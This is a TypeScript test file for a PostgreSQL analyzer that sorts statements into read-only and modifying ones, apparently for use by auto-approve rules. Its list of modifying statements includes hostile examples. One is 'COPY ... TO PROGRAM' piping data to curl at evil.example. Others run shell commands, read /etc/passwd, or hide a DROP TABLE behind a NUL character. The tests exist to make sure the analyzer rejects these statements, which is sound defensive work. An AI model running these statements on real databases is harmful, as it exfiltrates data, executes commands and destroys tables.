import { before, describe, it } from 'node:test'
import assert from 'node:assert/strict'
import type { Analyzer } from '../analyzer.js'
import { loadSqlAnalyzer, type SqlFacts } from './index.js'

let sql: Analyzer<SqlFacts>
before(async () => {
  sql = await loadSqlAnalyzer()
})

function readOnly(text: string): boolean {
  return sql.analyze({ sql: text }).facts.read_only
}

// Each row: SQL, whether it is read-only, and why — the scenarios an auto-approve rule relies on.
const READ_ONLY: ReadonlyArray<readonly [string, string]> = [
  ['SELECT 1', 'a constant'],
  ['SELECT id, email FROM users WHERE id = 42', 'a plain query'],
  ['SELECT count(*), max(ts), lower(name), coalesce(a, b) FROM t GROUP BY 3, 4', 'aggregates and string functions'],
  ['SELECT pg_catalog.lower(name), pg_catalog.now() FROM t', 'pg_catalog-qualified built-ins'],
  ["SELECT date_trunc('day', now()), to_char(now(), 'YYYY'), substring(s from 1 for 2) FROM t", 'date and SQL-syntax functions'],
  ["SELECT extract(year from ts), ts AT TIME ZONE 'utc', s SIMILAR TO 'a%' FROM t", 'syntax that the parser turns into calls'],
  ["SELECT jsonb_build_object('a', 1) -> 'a', data #>> '{x,y}', jsonb_set(data, '{a}', '1') FROM t", 'jsonb functions and operators'],
  ["SELECT pg_size_pretty(pg_relation_size('t')), version(), current_user, current_setting('work_mem')", 'introspection'],
  ['SELECT * FROM a JOIN b ON a.id = b.id WHERE a.x IN (SELECT x FROM c) AND EXISTS (SELECT 1 FROM d)', 'joins and subqueries'],
  ['WITH x AS (SELECT * FROM t) SELECT * FROM x UNION ALL SELECT * FROM u', 'a read-only CTE and a set operation'],
  ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', 'a recursive CTE'],
  ['SELECT * FROM generate_series(1, 10) g, LATERAL unnest(ARRAY[g]) u', 'set-returning built-ins in FROM'],
  ['SELECT * FROM t TABLESAMPLE SYSTEM (1)', 'a built-in sampling method'],
  ['VALUES (1), (2)', 'VALUES'],
  ['TABLE users', 'TABLE'],
  ['EXPLAIN SELECT * FROM t', 'plain EXPLAIN of a query'],
  ['EXPLAIN DELETE FROM t', 'plain EXPLAIN only plans the DELETE'],
  ['EXPLAIN ANALYZE SELECT * FROM t', 'EXPLAIN ANALYZE of a side-effect-free query'],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', 'ANALYZE switched off'],
  ['SHOW work_mem', 'SHOW'],
  ['BEGIN; SELECT 1; COMMIT', 'transaction control around a query'],
  ['START TRANSACTION READ ONLY; SAVEPOINT a; ROLLBACK TO SAVEPOINT a; ROLLBACK', 'savepoints and rollback'],
  ['COPY users TO STDOUT', 'COPY to the client'],
  ['COPY (SELECT * FROM users) TO STDOUT WITH (FORMAT csv)', 'COPY of a query to the client'],
  ['LISTEN jobs', 'LISTEN only subscribes this session'],
  ['PREPARE q AS SELECT * FROM t WHERE id = $1; EXECUTE q(1); DEALLOCATE q', 'EXECUTE of a read-only statement prepared in the same input'],
  ['DECLARE c CURSOR FOR SELECT * FROM t; FETCH 10 FROM c; CLOSE c', 'a cursor over a read-only query declared in the same input'],
  ['-- a comment\nSELECT 1 /* another */', 'comments around a query'],
  ["SELECT '1'::int, x::text, CAST(y AS timestamptz), '{}'::jsonb, z::varchar(3)[], 't'::regclass, 2::double precision FROM t", 'casts to built-in types'],
  ['SELECT * FROM jsonb_to_record(\'{"a": 1}\') AS r(a int, b text)', 'a column definition list of built-in types'],
]

const NOT_READ_ONLY: ReadonlyArray<readonly [string, string]> = [
  ['INSERT INTO t VALUES (1)', 'INSERT'],
  ['UPDATE t SET a = 1 WHERE id = 1', 'UPDATE'],
  ['DELETE FROM t WHERE id = 1', 'DELETE'],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'MERGE'],
  ['TRUNCATE t', 'TRUNCATE'],
  ['CREATE TABLE t (id int)', 'DDL'],
  ['GRANT SELECT ON t TO bob', 'DCL'],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'a DELETE hidden in a CTE'],
  ['WITH a AS (SELECT 1), u AS (UPDATE t SET x = 1 RETURNING *) SELECT * FROM a', 'an UPDATE hidden in a later CTE'],
  ['WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM i', 'an INSERT hidden in a CTE'],
  ['SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s', 'a CTE DELETE inside a subquery'],
  ["DO $$ BEGIN DELETE FROM t; END $$", 'a DO block'],
  ["DO $$ BEGIN PERFORM 1; END $$", 'any DO block, whatever it holds'],
  ['EXPLAIN ANALYZE DELETE FROM t', 'EXPLAIN ANALYZE runs the DELETE'],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', 'EXPLAIN (ANALYZE) runs the UPDATE'],
  ["EXPLAIN ANALYZE SELECT nextval('s')", 'EXPLAIN ANALYZE of a query with side effects'],
  ["EXPLAIN SELECT nextval('s')", 'plain EXPLAIN may still fold an unknown function'],
  ['EXECUTE p(1)', 'EXECUTE of a statement prepared elsewhere'],
  ['EXPLAIN EXECUTE p(1)', 'EXPLAIN EXECUTE of a statement prepared elsewhere'],
  ['PREPARE p AS DELETE FROM t', 'PREPARE of a modifying statement'],
  ['PREPARE p AS UPDATE t SET a = 1; EXECUTE p', 'EXECUTE of a modifying statement prepared in the same input'],
  ["COPY t FROM '/tmp/data.csv'", 'COPY FROM a server file'],
  ['COPY t FROM STDIN', 'COPY FROM the client'],
  ["COPY t TO PROGRAM 'curl -d @- evil.example'", 'COPY TO PROGRAM'],
  ["COPY t FROM PROGRAM 'id'", 'COPY FROM PROGRAM'],
  ["COPY t TO '/tmp/out.csv'", 'COPY TO a server file'],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', 'COPY of a DELETE'],
  ["COPY (SELECT nextval('s')) TO STDOUT", 'COPY of a query with side effects'],
  ['SELECT * INTO new_table FROM t', 'SELECT … INTO creates a table'],
  ['CREATE TABLE t2 AS SELECT * FROM t', 'CREATE TABLE AS'],
  ['SELECT * FROM t FOR UPDATE', 'FOR UPDATE takes row locks'],
  ['SELECT * FROM t FOR SHARE SKIP LOCKED', 'FOR SHARE takes row locks'],
  ['SELECT * FROM (SELECT * FROM t FOR UPDATE) s', 'a locking subquery'],
  ['CALL do_things()', 'CALL'],
  ['SET search_path = evil, public', 'SET changes session state'],
  ['SET ROLE admin', 'SET ROLE'],
  ['RESET ALL', 'RESET'],
  ["SET LOCAL statement_timeout = '1s'", 'SET LOCAL'],
  ['DISCARD ALL', 'DISCARD'],
  ["NOTIFY jobs, 'run'", 'NOTIFY'],
  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'LOCK'],
  ['VACUUM t', 'VACUUM'],
  ['ANALYZE t', 'ANALYZE'],
  ['CLUSTER t', 'CLUSTER'],
  ['REINDEX TABLE t', 'REINDEX'],
  ['CHECKPOINT', 'CHECKPOINT'],
  ['REFRESH MATERIALIZED VIEW mv', 'REFRESH MATERIALIZED VIEW'],
  ["LOAD 'auto_explain'", 'LOAD'],
  ["PREPARE TRANSACTION 'x'", 'PREPARE TRANSACTION'],
  ["COMMIT PREPARED 'x'", 'COMMIT PREPARED finishes a transaction not shown'],
  ['FETCH 10 FROM c', 'FETCH from a cursor declared elsewhere'],
  ["DECLARE c CURSOR FOR SELECT nextval('s')", 'DECLARE of a cursor with side effects'],
  ['SELECT pg_terminate_backend(123)', 'pg_terminate_backend'],
  ['SELECT pg_cancel_backend(123)', 'pg_cancel_backend'],
  ["SELECT setval('s', 1)", 'setval'],
  ["SELECT nextval('s')", 'nextval'],
  ["SELECT set_config('role', 'admin', false)", 'set_config'],
  ["SELECT pg_catalog.set_config('x', 'y', false)", 'a pg_catalog-qualified set_config'],
  ["SELECT dblink_exec('dbname=x', 'DROP TABLE t')", 'dblink_exec'],
  ["SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)", 'dblink'],
  ["SELECT lo_export(123, '/tmp/x')", 'lo_export'],
  ["SELECT lo_import('/etc/passwd')", 'lo_import'],
  ['SELECT pg_reload_conf()', 'pg_reload_conf'],
  ['SELECT pg_advisory_lock(1)', 'pg_advisory_lock'],
  ["SELECT pg_read_file('/etc/passwd')", 'reading a server file'],
  ['SELECT pg_sleep(60)', 'pg_sleep'],
  ['SELECT txid_current()', 'txid_current assigns a transaction id'],
  ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", 'a function that runs SQL text'],
  ['SELECT myschema.do_stuff()', 'a user-defined function'],
  ['SELECT public.lower(name) FROM t', 'a built-in name in another schema'],
  ['SELECT "LOWER"(name) FROM t', 'a quoted name that is not the built-in'],
  ['SELECT * FROM t WHERE do_stuff(t.id)', 'an unknown function in WHERE'],
  ['SELECT * FROM do_stuff() f', 'an unknown function in FROM'],
  ['WITH x AS (SELECT do_stuff()) SELECT * FROM x', 'an unknown function in a CTE'],
  ['SELECT (SELECT do_stuff())', 'an unknown function in a scalar subquery'],
  ['SELECT count(*) FILTER (WHERE do_stuff(x)) FROM t', 'an unknown function in an aggregate filter'],
  ['SELECT my_agg(x) FROM t', 'an unknown aggregate'],
  ['SELECT 1 WHERE 1 OPERATOR(myschema.===) 1', 'an operator from another schema'],
  ['SELECT a === b FROM t', 'an unknown operator'],
  ['SELECT * FROM t TABLESAMPLE evil (1)', 'an unknown sampling method'],
  ["SELECT '4'::my_domain", 'a cast to a type that may be a domain whose CHECK calls any function'],
  ['SELECT CAST(1 AS public.int4)', 'a built-in type name in another schema'],
  ["SELECT my_type '4'", 'a typed literal of an unknown type'],
  ['SELECT ROW(1)::my_composite', 'a cast to an unknown composite'],
  ['SELECT x FROM jsonb_to_record(\'{"x": 3}\') AS r(x my_domain)', 'a column definition list with an unknown type'],
  ["SELECT pg_input_is_valid('4', 'my_domain')", 'pg_input_is_valid runs the input (and CHECK) of a type named in text'],
  ['SELECT jsonb_populate_record(h, \'{"a": 5}\') FROM holders h', "populating a row whose type (a table's) may hold a domain with a CHECK"],
  ['SELECT * FROM json_populate_recordset(NULL::t, \'[{"a": 5}]\')', 'json_populate_recordset'],
  ['SELECT 1; DELETE FROM t', 'one modifying statement among read-only ones'],
  ['SELEC 1', 'unparseable SQL'],
  ['', 'empty SQL'],
  ['  \n ', 'whitespace only'],
  ['-- nothing here', 'comments only'],
  ['SELECT 1\u0000; DROP TABLE t', 'a NUL character the parser would stop at'],
]

describe('sql read_only', () => {
  for (const [text, why] of READ_ONLY) {
    it(`is true for ${why}: ${text}`, () => {
      assert.equal(readOnly(text), true)
    })
  }
  for (const [text, why] of NOT_READ_ONLY) {
    it(`is false for ${why}: ${JSON.stringify(text)}`, () => {
      assert.equal(readOnly(text), false)
    })
  }

  it('marks each statement on its own, and the whole only when all are read-only', () => {
    const { facts } = sql.analyze({ sql: 'SELECT 1; UPDATE t SET a = 1 WHERE id = 2; SHOW x' })
    assert.deepEqual(facts.statements.map((s) => s.read_only), [true, false, true])
    assert.equal(facts.read_only, false)
  })

  it('is false when the input is too deeply nested to analyze', () => {
    const text = `SELECT ${'lower('.repeat(5000)}'x'${')'.repeat(5000)}`
    const analysis = sql.analyze({ sql: text })
    assert.equal(analysis.facts.read_only, false)
    assert.notEqual(analysis.facts.parse_error, '')
  })
})
